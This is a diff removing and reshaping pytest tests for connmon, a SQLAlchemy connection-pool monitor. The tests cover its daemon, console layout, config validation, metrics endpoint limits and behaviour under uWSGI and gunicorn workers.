-                                cwd=HERE, env=CHILD_ENV, capture_output=True,
-                                text=True, timeout=30)
-        assert (result.returncode, result.stdout) == (
-            0, f"{name} {connmon.__version__}\n")
-
-
-def test_procs_without_once_is_refused():
-    """--procs lists processes in --once's table or JSON; the live screen
-    has its drill-down instead."""
-    result = subprocess.run(
-        [sys.executable, "-m", "connmon_console", "--procs", "-H",
-         "127.0.0.1:1"], cwd=HERE, env=CHILD_ENV, capture_output=True,
-        text=True, timeout=30)
-    assert result.returncode == 2
-    assert "error: --procs goes with --once" in result.stderr
-
-
-def test_once_json_into_a_closed_pipe_ends_quietly(daemon):
-    openstack = openstack_fleet(daemon)
-    reader, writer = os.pipe()
-    os.close(reader)   # like head -1, gone before connmon writes
-    result = subprocess.run(
-        [sys.executable, "-m", "connmon_console", "--once", "--json", "-H",
-         daemon.address], cwd=HERE, env=CHILD_ENV, stdout=writer,
-        stderr=subprocess.PIPE, text=True, timeout=30)
-    os.close(writer)
-    assert (result.returncode, result.stderr) == (0, "")
-    # ... and through a real pipe into head -1.
-    result = subprocess.run(
-        f"{sys.executable} -m connmon_console --once --json -H "
-        f"{daemon.address} | head -1", shell=True, cwd=HERE, env=CHILD_ENV,
-        capture_output=True, text=True, timeout=30)
-    assert (result.stdout, result.stderr) == ("{\n", "")
-    assert openstack
-
-
-def test_ctrl_c_during_once_ends_quietly():
-    server = FakeDaemon()
-    try:
-        proc = subprocess.Popen(
-            [sys.executable, "-m", "connmon_console", "--once", "-H",
-             f"127.0.0.1:{server.port}"], cwd=HERE, env=CHILD_ENV,
-            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
-        wait_until(lambda: server.accepted, what="connmon waiting")
-        proc.send_signal(signal.SIGINT)
-        out, err = proc.communicate(timeout=30)
-        assert (proc.returncode, out, err) == (130, "", "")
-    finally:
-        server.close()
-
-
-@pytest.mark.parametrize("what", ["mariadb", "postgresql", "http"])
-def test_once_says_when_it_is_not_connmond(what):
-    import http.server
-
-    class Quiet(http.server.SimpleHTTPRequestHandler):
-        def log_message(self, *args: Any) -> None:
-            pass
-    httpd = None
-    if what == "http":
-        httpd = http.server.HTTPServer(("127.0.0.1", 0), Quiet)
-        threading.Thread(target=httpd.serve_forever, daemon=True).start()
-        address = f"127.0.0.1:{httpd.server_address[1]}"
-    else:
-        url = MYSQL_URL if what == "mariadb" else POSTGRESQL_URL
-        require_database(url)
-        address = "127.0.0.1:3306" if what == "mariadb" else "127.0.0.1:5432"
-    try:
-        result = subprocess.run(
-            [sys.executable, "-m", "connmon_console", "--once", "-H",
-             address], cwd=HERE, env=CHILD_ENV, capture_output=True,
-            text=True, timeout=30)
-    finally:
-        if httpd is not None:
-            httpd.shutdown()
-    assert result.returncode == 1
-    (line,) = result.stderr.splitlines()
-    assert line.startswith(f"connmon: {address}: not connmond: "), line
-
-
-def test_live_console_backs_off_from_what_is_not_connmond(terminal):
-    server = FakeDaemon(greeting=b"J\x00\x00\x00\n5.5.5-10.11.6-MariaDB\x00")
-    try:
-        term = terminal("-H", f"127.0.0.1:{server.port}", "-i", "0.2")
-        term.wait_text("not connmond")
-        time.sleep(6)
-        # Every 0.2 s would be 30 tries; backing off, a handful.
-        assert 1 <= server.accepted <= 6, server.accepted
-        assert "next try in" in term.display[-1]
-    finally:
-        server.close()
-
-
-def test_sighup_does_not_stop_connmond(daemon):
-    app = SyntheticApp(daemon, "ctl1", "nova-conductor")
-    daemon.proc.send_signal(signal.SIGHUP)
-    wait_until(lambda: "SIGHUP ignored" in daemon.log.read_text(),
-               what="the SIGHUP log line")
-    assert daemon.proc.poll() is None
-    assert daemon.row("nova-conductor")["connected"]
-    assert app.conn
-
-
-def test_demo_killed_with_sigkill_leaves_nothing_running(terminal):
-    require_module("sqlalchemy")
-    term = terminal("--demo")
-    term.wait_for(lambda t: "nova-api" in t.rows(), "the demo's rows")
-    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
-    children = [int(name) for name in os.listdir("/proc") if name.isdigit()
-                and _parent_pid(int(name)) == term.proc.pid]
-    assert len(children) >= 6
-    term.proc.kill()
-    term.proc.wait(10)
-    wait_until(lambda: not [pid for pid in children
-                            if _parent_pid(pid) is not None],
-               what="every demo process gone")
-    with pytest.raises(OSError):
-        socket.create_connection(("127.0.0.1", port), 1).close()
-
-
-# -- The config check ---------------------------------------------------------
-
-# (option line, message, read by the applications too)
-CONFIG_MISTAKES = [
-    ("heartbeat_timeout: 0", "heartbeat_timeout: expected a number of "
-     "seconds from 1 to 3600, got '0'", False),
-    ("max_clients: -5", "max_clients: expected a whole number from 1 to "
-     "1048576, got '-5'", False),
-    ("forget_gone_after: 0", "forget_gone_after: expected a number of "
-     "seconds from 1 to", False),
-    ("hold_ms_warn: slow", "hold_ms_warn: expected a number of "
-     "milliseconds from 0.1 to", False),
-    ("metrics_prot: 9187", "unknown option 'metrics_prot' (did you mean "
-     "metrics_port?)", False),
-    ("hold_warn_seconds: abc", "hold_warn_seconds: expected a number of "
-     "seconds from 0.1 to 86400, got 'abc'", True),
-    ("hold_warn_seconds: 0", "hold_warn_seconds: expected a number of "
-     "seconds from 0.1 to 86400, got '0'", True),
-    ("checkout_sites: maybe", "checkout_sites: expected 1 (on) or 0 (off), "
-     "got 'maybe'", True),
-]
-
-
-@pytest.mark.parametrize("line, message, app_reads_it", CONFIG_MISTAKES)
-def test_check_config_refuses_each_mistake(tmp_path, line, message,
-                                           app_reads_it):
-    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + line +
-                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert (result.returncode, result.stdout) == (2, "")
-    assert result.stderr.startswith(
-        f"connmond: error: {path}:3: [connmon_service_a] {message}")
-    assert len(result.stderr.splitlines()) == 1
-
-
-@pytest.mark.parametrize("line, message", [
-    (line, message) for line, message, app in CONFIG_MISTAKES if app])
-@pytest.mark.parametrize("form", ["sqlite+pysqlite_connmon://", "sqlite://"])
-def test_create_engine_refuses_each_mistake_it_reads(tmp_path, form, line,
-                                                     message):
-    """The applications read hold_warn_seconds and checkout_sites through
-    the same definitions --check-config uses: the same message."""
-    import sqlalchemy as sa
-    path = write(tmp_path, "[connmon_service_a]\nname: a\n" + line +
-                 "\nnodes:\n    n1 hostname=127.0.0.1:1\n")
-    url = f"{form}/?connmon_service=a&connmon_config={path}"
-    if form == "sqlite://":
-        url += "&plugin=connmon"
-    with pytest.raises(connmon.ConfigError) as err:
-        sa.create_engine(url)
-    assert str(err.value) == f"{path} [connmon_service_a]: {message}"
-
-
-@pytest.mark.parametrize("text, message", [
-    ("[connmon_service_a]\nname: a\nnodes\n    n1 hostname=h\n",
-     "[connmon_service_a], line 3: 'nodes' is not 'option: value' (no ':' "
-     "or '=')"),
-    ("[connmon_service_a\nname: a\n",
-     "line 1: section header '[connmon_service_a' has no closing ']'"),
-])
-def test_check_config_parse_errors_in_one_line(tmp_path, text, message):
-    path = write(tmp_path, text)
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert result.returncode == 2
-    assert result.stderr == f"connmond: error: {path}{located(message)}\n"
-
-
-def test_unknown_service_names_the_source_read(tmp_path):
-    if os.path.exists(connmon.DEFAULT_CONFIG_FILE):
-        pytest.skip(f"{connmon.DEFAULT_CONFIG_FILE} exists on this machine")
-    result = run_connmond("--check-config", "-s", "nope")
-    assert result.stderr == ("connmond: error: <built-in default>: unknown "
-                             "service 'nope' (services: default)\n")
-    path = write(tmp_path, "[connmon_service_a]\nname: a\nnodes:\n"
-                 "    n1 hostname=h\n")
-    result = run_connmond("--check-config", "-c", path, "-s", "nope")
-    assert result.stderr == (f"connmond: error: {path}: unknown service "
-                             "'nope' (services: a)\n")
-    import sqlalchemy as sa
-    with pytest.raises(connmon.ConfigError, match="^<built-in default>: "
-                       "unknown service 'nope'"):
-        sa.create_engine("sqlite+pysqlite_connmon:///?connmon_service=nope")
-
-
-# --- (new) fast unit tests of the pure logic ---
-
-def test_parse_config_reads_every_service_and_refuses_other_sections():
-    """Several services in one text, each with its nodes (default port,
-    the wildcard bind of the address's family) and its other options; a
-    section that is neither a service nor logging's is a mistake, named
-    with the service likeliest meant."""
-    services = connmon.parse_config(textwrap.dedent("""\
-        [DEFAULT]
-        heartbeat_timeout: 7
-        [connmon_service_first]
-        name: nova
-        nodes:
-            a hostname=10.0.0.1
-            # a comment line between nodes
-            b hostname=[fd00::2]:5900 bind=[::1]
-        csv_dir: /var/lib/connmon
-        [connmon_service_second]
-        name: neutron
-        nodes: c hostname=localhost:6000 bind=127.0.0.1
-        """), "test.cfg")
-    assert sorted(services) == ["neutron", "nova"]
-    nova, neutron = services["nova"], services["neutron"]
-    assert [(n.name, n.address, n.bind) for n in nova.nodes] == [
-        ("a", ("10.0.0.1", 5800), ("0.0.0.0", 5800)),
-        ("b", ("fd00::2", 5900), ("::1", 5900))]
-    assert nova.options == {"csv_dir": "/var/lib/connmon",
-                            "heartbeat_timeout": "7"}
-    assert nova.source == "test.cfg [connmon_service_first]"
-    assert [(n.name, n.address, n.bind) for n in neutron.nodes] == [
-        ("c", ("localhost", 6000), ("127.0.0.1", 6000))]
-    assert nova.node("b").address == ("fd00::2", 5900)
-    with pytest.raises(connmon.ConfigError, match="has no node 'z'"):
-        nova.node("z")
-    with pytest.raises(connmon.ConfigError, match=r"test.cfg, \[connmon\], "
-                       r"line 1: unknown section: .* did you mean "
-                       r"\[connmon_service_default\]\?"):
-        connmon.parse_config("[connmon]\nname: nova\n", "test.cfg")
-
-
-NAME_CHARACTERS = "abcdefghijklmnopqrstuvwxyz0123456789-"
-
-
-@hypothesis.settings(max_examples=50, deadline=None)
-@hypothesis.given(nodes=st.lists(st.tuples(
-    st.text(NAME_CHARACTERS + "_", min_size=1, max_size=12),
-    st.text(NAME_CHARACTERS + ".", min_size=1, max_size=20).map(
-        lambda host: "h" + host),
-    st.integers(1, 65535), st.one_of(st.none(), st.integers(1, 65535))),
-    min_size=1, max_size=5, unique_by=lambda node: node[0]))
-def test_parse_config_nodes_as_written(nodes):
-    """Whatever the names, hosts and ports, each node line reads back as
-    written, in order."""
-    text = "[connmon_service_x]\nname: x\nnodes:\n" + "".join(
-        f"    {name} hostname={host}:{port}"
-        + (f" bind=127.0.0.1:{bind}" if bind else "") + "\n"
-        for name, host, port, bind in nodes)
-    (service,) = connmon.parse_config(text, "x.cfg").values()
-    assert [(n.name, n.address, n.bind) for n in service.nodes] == [
-        (name, (host, port), ("127.0.0.1", bind) if bind else
-         ("0.0.0.0", port)) for name, host, port, bind in nodes]
-
-
-def table_rows(names: List[Tuple[str, str]], **numbers: Any
-               ) -> List[Dict[str, Any]]:
-    """Rows of the console's main table, one per (hostname, progname)."""
-    figures = {"nproc": 4, "conn": 123456, "ckout": 12, "limit": 30,
-               "waiting": 0, "timeouts_per_sec": 0.0, "maxnproc": 4,
-               "maxconn": 1234567, "maxckout": 30, "ckout_per_sec": 1234.5,
-               "hold_ms": 2.5, "oldest": 3600.0, **numbers}
-    return [{"hostname": host, "progname": prog, "connected": True,
-             **figures} for host, prog in names]
-
-
-def check_layout(width: int, rows: List[Dict[str, Any]]) -> List[str]:
-    """Lay the main table out in ``width`` columns and check what the
-    console promises; the lines drawn."""
-    columns = connmon_console.COLUMNS
-    layout = connmon_console.plan(columns, width, rows, rows)
-    kept = [column for column, _ in layout]
-    dropped = [column for column in columns if column not in kept]
-    assert sum(w for _, w in layout) <= width or len(layout) == 1
-    # Columns go in keep order: none dropped is kept more than one shown.
-    assert max((c.keep for c in dropped), default=0) <= min(
-        c.keep for c in kept)
-    whole = connmon_console.whole_widths(columns, rows, rows)
-    names_cut = any(w < min(c.most, whole[c]) for c, w in layout
-                    if c.kind == "text")
-    if names_cut:   # names are cut only once the lesser columns are gone
-        assert all(c.keep >= connmon_console.NAMES_FIRST for c in kept)
-    formatter = connmon_console.Formatter(
-        layout, rows, connmon_console.thresholds_of({}),
-        connmon_console.Cutter())
-    lines = []
-    for row in rows:
-        texts = formatter.texts(row)
-        line = formatter.line(row)
-        assert len(line) == sum(w for _, w in layout)
-        for (column, w), text in zip(layout, texts):
-            shown = column.show(column.value(row))
-            if not column.text:   # a number is never cut
-                assert text == shown and len(text) < w
-            elif len(shown) < w:
-                assert text == shown
-            else:
-                assert len(text) == w - 1
-                assert text.count(connmon_console.CUT_MARK) == 1
-        lines.append(line)
-    return lines
-
-
-OPENSTACK_NAMES = [
-    ("controller", "nova-api"), ("controller", "nova-conductor"),
-    ("controller", "nova-compute"), ("controller", "glance-api"),
-    ("controller", "neutron-openvswitch-agent"),
-    ("controller", "neutron-l3-agent"),
-    ("compute-0001.example.org", "nova-compute")]
-
-
-def test_plan_at_80_columns_drops_lesser_columns_before_a_name_is_cut():
-    lines = check_layout(80, table_rows(OPENSTACK_NAMES))
-    assert any("neutron-openvswitch-agent" in line for line in lines)
-    assert all("123456" in line for line in lines)
-
-
-def test_plan_at_40_columns_cuts_names_and_keeps_the_numbers_whole():
-    rows = table_rows(OPENSTACK_NAMES)
-    layout = connmon_console.plan(connmon_console.COLUMNS, 40, rows, rows)
-    headings = [column.heading for column, _ in layout]
-    assert headings[:2] == ["HOSTNAME", "PROGNAME"]
-    assert {"CONN", "CKOUT", "OLDEST"} <= set(headings)
-    lines = check_layout(40, rows)
-    oldest = connmon_console.duration(3600.0)   # as the screen reads it
-    assert all("123456" in line and oldest in line for line in lines)
-    assert any(connmon_console.CUT_MARK in line for line in lines)
-    assert len(set(lines)) == len(lines)   # every row told apart
-
-
-@hypothesis.settings(max_examples=100, deadline=None)
-@hypothesis.given(
-    width=st.sampled_from([40, 80]),
-    names=st.lists(st.tuples(st.text(st.characters(
-        min_codepoint=0x21, max_codepoint=0x7e), min_size=1, max_size=40),
-        st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7e),
-                min_size=1, max_size=40)), min_size=1, max_size=8),
-    conn=st.integers(0, 10 ** 9), oldest=st.one_of(
-        st.none(), st.floats(0, 10 ** 7, allow_nan=False)))
-def test_plan_never_cuts_a_number_whatever_the_names(width, names, conn,
-                                                     oldest):
-    check_layout(width, table_rows(names, conn=conn, maxconn=conn,
-                                   oldest=oldest))
-
-
-def test_cutter_tells_names_apart_near_a_third_of_the_way_in():
-    cutter = connmon_console.Cutter()
-    names = ["nova-compute", "nova-conductor", "neutron-l3-agent",
-             "neutron-dhcp-agent", "nova-api"]
-    for room in (9, 10, 12):
-        cuts = cutter.cuts(names, room)
-        assert set(cuts) == {name for name in names if len(name) > room}
-        shown = [cuts.get(name, name) for name in names]
-        assert len(set(shown)) == len(names), shown
-        for name, text in cuts.items():
-            head, tail = text.split(connmon_console.CUT_MARK)
-            assert len(text) == room
-            assert name.startswith(head) and name.endswith(tail)
-    assert cutter.cuts(names, 9) is cutter.cuts(reversed(names), 9)
-    assert cutter.cuts(["nova"], 9) == {}
-
-
-def test_cutter_with_no_room_for_the_mark_keeps_the_heads():
-    assert connmon_console.Cutter().cuts(["abcdef", "ab"], 1) == {
-        "abcdef": "a", "ab": "a"}
 
 
 def fit_rows(count: int) -> List[Dict[str, Any]]:
@@ -7848,8 +8861,6 @@ def test_process_state_message_update_round_trip(batches):
         assert daemon_side.pools == app.pools
 
 
-# --- (new) trust boundaries, second pass ---
-
 def fat_update(pools: int) -> dict:
     """An update announcing ``pools`` pools, each on a database whose every
     name is as long as allowed: a process as large as a client can make
@@ -7982,46 +8993,6 @@ auth_secret_file: {loose}
         daemon.stop()
 
 
-def test_trust_metrics_capped_and_deadlined(tmp_path, apps):
-    """/metrics serves at most connmon_server.MAX_METRICS_CLIENTS at once,
-    and each for at most METRICS_DEADLINE seconds in all, however slowly
-    it trickles: a crowd of trickling clients neither holds threads for
-    ever nor keeps the next scrape out for longer than that."""
-    port = free_port()
-    daemon = Daemon(tmp_path, extra_config=f"metrics_port: {port}\n")
-    tricklers = []
-    try:
-        began = time.monotonic()
-        for _ in range(connmon_server.MAX_METRICS_CLIENTS):
-            sock = socket.create_connection(("127.0.0.1", port), 5)
-            sock.sendall(b"G")
-            tricklers.append(sock)
-        with socket.create_connection(("127.0.0.1", port), 5) as extra:
-            extra.settimeout(5)
-            assert extra.recv(1) == b""   # past the cap: closed at once
-        assert "requests served already" in daemon.log.read_text()
-
-        def trickle_until_closed() -> bool:
-            for sock in tricklers:
-                try:
-                    sock.sendall(b"E")   # a byte now and then
-                except OSError:
-                    pass
-            time.sleep(0.5)
-            return len(readable(tricklers, 0)) == len(tricklers)
-        wait_until(trickle_until_closed,
-                   connmon_server.METRICS_DEADLINE + 10,
-                   "every trickler cut off at its deadline")
-        assert (time.monotonic() - began
-                >= connmon_server.METRICS_DEADLINE - 1)
-        status, _, text = http_get(port, "/metrics")
-        assert status == 200 and "connmon_processes" in text
-    finally:
-        for sock in tricklers:
-            sock.close()
-        daemon.stop()
-
-
 def test_trust_client_memory_has_a_ceiling(tmp_path, apps):
     """Past max_client_memory of reckoned client state, new apps are
     refused with a clear message; the apps attached keep working, and a
@@ -8054,8 +9025,6 @@ def test_trust_client_memory_has_a_ceiling(tmp_path, apps):
             sock.close()
         daemon.stop()
 
-
-# --- (new) scale, daemon side: cheap updates, batched peer forwards ---
 
 def counters_only(**fields: Any) -> Dict[str, Any]:
     """An update as the plugin sends it when checkouts came and went
@@ -8108,1523 +9077,6 @@ def test_malformed_counters_only_update_is_refused_clearly(daemon, fields,
     daemon.wait_row("good.py", conn=1)
     wait_until(lambda: error in daemon.log.read_text(), 10, "the log line")
 
-
-def test_cluster_batched_forwards_carry_every_update(cluster):
-    """Apps on node1 and node2 send counters and checkouts; every node's
-    picture converges, and each counts every checkout once (the updates
-    reach the peers in batches)."""
-    node1, node2, node3 = cluster.nodes.values()
-    wait_until(lambda: all(all(d.snapshot()["peers"].values())
-                           for d in cluster.live()), 20, "the cluster up")
-    apps = [SyntheticApp(node, "batch-host", f"batch{n}.py")
-            for n, node in enumerate((node1, node2, node1), 1)]
-    for app in apps:
-        for conn in (1, 2, 3):
-            app.event(connmon.CONNECT, conn, pool=7)
-        app.send()
-    for round_ in range(20):
-        for app in apps:
-            app.conn.send(counters_only())
-        if round_ % 5 == 0:
-            apps[0].event(connmon.CHECKOUT, 1 + round_ // 5 % 3, pool=7)
-            apps[0].send()
-    wait_converged(cluster, {"batch1.py": (1, 3, 3), "batch2.py": (1, 3, 0),
-                             "batch3.py": (1, 3, 0)})
-    for node in cluster.live():
-        wait_until(lambda: {row["progname"]: row["ckout_total"]
-                            for row in node.snapshot()["rows"]} == {
-            "batch1.py": 103, "batch2.py": 100, "batch3.py": 100}, 10,
-            f"every checkout counted once on {node.node}")
-
-
-# --- (new) threaded servers' first requests, signals, stops ---
-
-# Many threads at once at the first pool events of a fresh sender, and of
-# a child of C fork() (no at-fork hook, as uWSGI forks), the GIL switched
-# often to make the most of any race: one reset, one pair of threads.
-BURST_SCRIPT = r'''
-import ctypes, os, sys, threading, time
-import sqlalchemy as sa
-import connmon
-
-THREADS = 32
-engine = sa.create_engine(sys.argv[1], pool_size=THREADS, max_overflow=0)
-if sys.argv[2] == "c-fork":
-    engine.connect().close()   # the parent's own threads run
-    time.sleep(3 * connmon.WAKE_AGAIN)   # (see the fork test)
-    if ctypes.PyDLL(None).fork():   # the GIL stays held: the child owns it
-        sys.stdin.readline()
-        sys.exit()
-sys.setswitchinterval(1e-6)
-at_once = threading.Barrier(THREADS)
-held = threading.Barrier(THREADS)
-
-def first_use():
-    at_once.wait()
-    with engine.connect() as conn:
-        conn.execute(sa.text("SELECT 1"))
-        held.wait()
-
-users = [threading.Thread(target=first_use) for _ in range(THREADS)]
-for user in users:
-    user.start()
-for user in users:
-    user.join()
-sys.setswitchinterval(0.005)
-for user in users:   # until the joined OS threads are gone
-    while os.path.exists(f"/proc/self/task/{user.native_id}"):
-        time.sleep(0.01)
-(sender,) = connmon._senders.values()
-print(os.getpid(), len(os.listdir("/proc/self/task")) - 1,
-      sorted(str(t.native_id) for t in sender.threads) == sorted(
-          t for t in os.listdir("/proc/self/task") if int(t) != os.getpid()),
-      flush=True)
-sys.stdin.readline()
-'''
-
-
-@pytest.mark.parametrize("process", ["fresh", "c-fork"])
-def test_threads_at_the_first_pool_event_start_one_sender(daemon, tmp_path,
-                                                          process):
-    """32 threads using a pool for the first time at the same instant, in
-    a fresh process or a child of C fork(): exactly one pair of connmon
-    threads, one connection to connmond, and the pool's counts."""
-    app = Script(tmp_path, "burst.py", BURST_SCRIPT,
-                 f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
-                 f"&connmon_addr={daemon.address}", process)
-    try:
-        pid, threads, ours = app.line()
-        assert (threads, ours) == ("2", "True")
-        procs = {int(pid): (32, 0)}
-        if process == "c-fork":
-            procs[app.proc.pid] = (1, 0)   # the parent's idle one
-        row = daemon.wait_row("burst.py", procs=True, nproc=len(procs),
-                              conn=sum(c for c, _ in procs.values()),
-                              ckout=0)
-        assert sorted((p["pid"], (p["conn"], p["ckout"]))
-                      for p in row["procs"]) == sorted(procs.items())
-        log = daemon.log.read_text()
-        assert "another live connection" not in log, log
-    finally:
-        app.stop()
-
-
-def children_of(pid: int) -> List[int]:
-    """The live child processes of ``pid`` (a server's workers)."""
-    return [int(name) for name in os.listdir("/proc") if name.isdigit()
-            and _parent_pid(int(name)) == pid]
-
-
-def threads_of(pid: int) -> Tuple[int, int]:
-    """How many OS threads process ``pid`` has, and how many of them a
-    SIGTERM sent to the process may be delivered to (not blocking it)."""
-    tasks, accepting = 0, 0
-    for tid in os.listdir(f"/proc/{pid}/task"):
-        try:
-            with open(f"/proc/{pid}/task/{tid}/status") as status:
-                blocked = int(re.search(r"^SigBlk:\s*(\w+)$", status.read(),
-                                        re.M).group(1), 16)
-        except OSError:   # a thread that ended meanwhile
-            continue
-        tasks += 1
-        accepting += not blocked & (1 << (signal.SIGTERM - 1))
-    return tasks, accepting
-
-
-class WorkersServer(Server):
-    """A Server that notes, as it is stopped, its workers' threads (see
-    threads_of) and the pids connmond lists for ``progname``."""
-
-    def __init__(self, tmp_path, argv: List[str], port: int,
-                 daemon: Optional[Daemon] = None, progname: str = ""):
-        super().__init__(tmp_path, argv, port)
-        self.daemon, self.progname = daemon, progname
-        self.threads: Dict[int, Tuple[int, int]] = {}
-        self.listed: List[int] = []
-
-    def stop(self) -> None:
-        if self.proc.poll() is None:
-            self.threads = {pid: threads_of(pid)
-                            for pid in children_of(self.proc.pid)}
-            if self.daemon:
-                row = self.daemon.row(self.progname, procs=True) or {}
-                self.listed = [p["pid"] for p in row.get("procs", [])]
-        super().stop()
-
-    def rush(self, clients: int = 48) -> None:
-        """``clients`` requests at once from the moment it starts (each
-        tried again until the server listens), all answered."""
-        answered = []
-
-        def client():
-            deadline = time.monotonic() + 30
-            while time.monotonic() < deadline:
-                try:
-                    answered.append(self.get("/work"))
-                    return
-                except OSError:
-                    time.sleep(0.01)
-        rushing = [threading.Thread(target=client) for _ in range(clients)]
-        for thread in rushing:
-            thread.start()
-        for thread in rushing:
-            thread.join(40)
-        assert len(answered) == clients, self.log_tail()
-
-    def serve_all(self, workers: int) -> None:
-        """Until every worker has answered (no check of counts)."""
-        pids: set = set()
-        wait_until(lambda: pids.update(r["pid"] for r in self.answers(
-            "/work")) or len(pids) == workers, 30, "every worker to answer")
-
-
-def plain_wsgi_app(tmp_path, use_at_load: bool) -> pathlib.Path:
-    """The WSGI application, the same but not monitored, in a folder of
-    its own."""
-    folder = tmp_path / "plain"
-    folder.mkdir(exist_ok=True)
-    path = folder / "connmon_wsgi_app.py"
-    path.write_text(WSGI_APP.format(patch="", url=MYSQL_URL,
-                                    pool_size=POOL_SIZE,
-                                    use_at_load=use_at_load))
-    return path
-
-
-def uwsgi_argv(port: int, app: pathlib.Path, *flags: str) -> List[str]:
-    return ["uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
-            "--processes", "2", "--threads", "4", "--wsgi-file", str(app),
-            "--die-on-term", "--disable-logging", *flags]
-
-
-# The workers' threads without connmon, per (flags, use_at_load): measured
-# once a run.
-_plain_uwsgi_threads: Dict[tuple, set] = {}
-
-
-def plain_uwsgi_threads(tmp_path, flags: tuple, use_at_load: bool) -> set:
-    key = (flags, use_at_load)
-    if key not in _plain_uwsgi_threads:
-        app = plain_wsgi_app(tmp_path, use_at_load)
-        port = free_port()
-        server = WorkersServer(app.parent, uwsgi_argv(port, app, *flags),
-                               port)
-        try:
-            server.rush()
-            server.serve_all(2)
-        finally:
-            server.stop()
-        _plain_uwsgi_threads[key] = set(server.threads.values())
-    return _plain_uwsgi_threads[key]
-
-
-@pytest.mark.parametrize("flags, use_at_load, start", [
-    ((), False, 0), ((), False, 1), ((), True, 0), ((), True, 1),
-    (("--enable-threads",), True, 0)])
-def test_uwsgi_threads_first_requests_start_connmon_once(
-        tmp_path, flags, use_at_load, start):
-    """uWSGI --threads 4, two workers, 48 requests at once from the start:
-    each worker has exactly connmon's two threads more than without
-    connmon, and they take none of the server's signals; connmond's
-    picture per pid is each worker's pool, the master is not listed, and
-    no descriptor was used after it was closed."""
-    require_database(MYSQL_URL)
-    plain = plain_uwsgi_threads(tmp_path, flags, use_at_load)
-    assert len(plain) == 1, plain   # (tasks, accepting SIGTERM) per worker
-    ((tasks, accepting),) = plain
-    daemon = Daemon(tmp_path)
-    try:
-        app = write_wsgi_app(tmp_path, daemon, use_at_load=use_at_load)
-        port = free_port()
-        server = WorkersServer(tmp_path, uwsgi_argv(port, app, *flags), port,
-                               daemon, "uwsgi")
-        try:
-            server.rush()
-        except AssertionError:
-            server.stop()
-            raise
-        check_server(server, daemon, "uwsgi", 2)
-        assert len(server.threads) == 2, server.threads
-        assert set(server.threads.values()) == {(tasks + 2, accepting)}, (
-            f"without connmon {plain}; with it {server.threads}")
-        assert sorted(server.listed) == sorted(server.threads)
-        logs = server.log.read_text() + daemon.log.read_text()
-        for trouble in ("Bad file descriptor", "another live connection"):
-            assert trouble not in logs, logs[-3000:]
-    finally:
-        daemon.stop()
-
-
-def stop_under_load(server: WorkersServer, bound: float,
-                    daemon: Optional[Daemon] = None,
-                    progname: str = "") -> float:
-    """Once both workers of ``server`` answer (and ``daemon`` lists them
-    under ``progname``: connmon runs in each), SIGTERM its master while
-    eight clients keep asking; the seconds until it has exited, at most
-    ``bound`` (past it, the server is killed and the test fails)."""
-    try:
-        server.serve_all(2)
-        if daemon:
-            daemon.wait_row(progname, nproc=2)
-    except AssertionError:
-        server.stop()
-        raise
-    stopping = threading.Event()
-    answered = []
-
-    def client():
-        while not stopping.is_set():
-            try:
-                answered.append(server.get("/work"))
-            except (OSError, ValueError):   # refused, cut off: stopping
-                time.sleep(0.01)
-    clients = [threading.Thread(target=client) for _ in range(8)]
-    for thread in clients:
-        thread.start()
-    try:
-        wait_until(lambda: len(answered) >= 16, 20, "clients served")
-        began = time.monotonic()
-        server.proc.send_signal(signal.SIGTERM)
-        try:
-            server.proc.wait(bound)
-        except subprocess.TimeoutExpired:
-            raise AssertionError(f"still running {bound:.1f} s after "
-                                 f"SIGTERM\n{server.log_tail()}") from None
-        return time.monotonic() - began
-    finally:
-        stopping.set()
-        for thread in clients:
-            thread.join(10)
-        server.stop()
-
-
-def stop_server_argv(kind: str, port: int, app: pathlib.Path) -> List[str]:
-    if kind == "uwsgi":
-        return uwsgi_argv(port, app)
-    return ["gunicorn", "-w", "2", "-k", "gthread", "--threads", "4", "-b",
-            f"127.0.0.1:{port}", "connmon_wsgi_app:application"]
-
-
-# (Fewer than the 20 stops of issue 23: a start and stop of a server
-# under load takes 3 to 8 s on a busy two-core machine.)
-@pytest.mark.parametrize("kind, stops", [("uwsgi", 12), ("gunicorn", 6)])
-def test_server_with_connmon_stops_as_fast_as_without(tmp_path, kind,
-                                                      stops):
-    """Stops under load of a server of two workers with four threads
-    each, with connmon, each within the longest of two stops of the
-    same server without connmon plus a margin (15 s: a shared machine's
-    load makes a stop's time vary) far below what a stop left to a signal
-    on one of connmon's threads took (uWSGI's 60 s "NO MERCY", gunicorn's
-    30 s graceful timeout)."""
-    require_database(MYSQL_URL)
-    plain_app = plain_wsgi_app(tmp_path, use_at_load=False)
-    plain = []
-    for _ in range(2):
-        port = free_port()
-        server = WorkersServer(plain_app.parent, stop_server_argv(
-            kind, port, plain_app), port)
-        plain.append(stop_under_load(server, 30))
-    bound = max(plain) + 15
-    daemon = Daemon(tmp_path)
-    try:
-        app = write_wsgi_app(tmp_path, daemon)
-        for _ in range(stops):
-            port = free_port()
-            server = WorkersServer(tmp_path, stop_server_argv(kind, port, app),
-                                   port)
-            stop_under_load(server, bound, daemon, kind)
-            wait_until(lambda: (daemon.row(kind) or {}).get("nproc") == 0,
-                       10, "the stopped workers to leave the picture")
-        log = server.log.read_text()
-        for trouble in ("Traceback", "connmon:", "MERCY", "SIGKILL"):
-            assert trouble not in log, log[-3000:]
-    finally:
-        daemon.stop()
-
-
-# A uWSGI application of request threads: GET /hold holds a connection at
-# a line for as long as its request runs; GET /leak keeps one past the
-# request, on the thread that then waits, in uWSGI's C code, for the next.
-UWSGI_LEAK_APP = r'''
-import time
-import sqlalchemy as sa
-
-engine = sa.create_engine({url!r}, pool_size=5, max_overflow=0)
-kept = []
-
-def hold():
-    with engine.connect() as conn:   # UWSGI-HOLD-SITE
-        conn.execute(sa.text("SELECT 1"))
-        time.sleep(600)   # UWSGI-HELD
-
-def leak():
-    kept.append(engine.connect())   # UWSGI-LEAK-SITE
-
-def application(environ, start_response):
-    {{"/hold": hold, "/leak": leak}}[environ["PATH_INFO"]]()
-    start_response("200 OK", [("Content-Length", "1")])
-    return [b"1"]
-'''
-
-
-def test_leak_finder_in_uwsgi_request_threads(tmp_path, leak_daemon):
